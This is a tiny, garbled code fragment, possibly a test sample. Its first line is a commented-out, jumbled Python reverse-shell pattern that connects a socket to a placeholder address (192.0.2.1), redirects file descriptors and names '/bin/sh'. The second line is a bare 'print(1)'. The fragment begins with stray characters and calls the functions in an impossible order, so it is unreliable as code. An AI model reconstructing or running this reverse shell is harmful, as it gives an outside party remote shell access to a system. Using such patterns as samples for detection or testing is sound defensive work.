p–# s.connect(("192.0.2.1",1)); os.dup2(s.fileno(),0); socket.socket(); "/bin/sh"
print(1)
